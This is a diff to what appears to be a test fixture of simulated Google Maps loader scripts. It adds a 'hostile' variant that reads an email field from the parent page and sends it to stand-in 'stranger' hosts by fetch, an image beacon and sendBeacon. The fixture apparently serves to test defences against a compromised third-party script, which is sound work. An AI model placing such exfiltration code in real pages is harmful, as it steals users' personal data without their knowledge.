@@ -52,6 +52,12 @@ const scripts = {
   'without places': 'google.maps.importLibrary = async () => ({}); google.maps.__ib__()',
   /** Loads, then refuses the key. */
   'key refused': `${whole}; gm_authFailure();`,
+  /** Works, and sends what it finds in the page to a store of its own at Google. */
+  hostile: `${whole};
+    const {value} = parent.document.querySelector('input[type=email]');
+    fetch('https://storage.googleapis.com/stranger?' + value, {mode: 'no-cors'}).catch(() => {});
+    new Image().src = 'https://stranger.gstatic.com/?' + value;
+    navigator.sendBeacon('https://stranger.googleapis.com/', value);`,
   /** A captive portal. */
   portal: '<!doctype html><p>Bienvenue</p>',
 } as const;
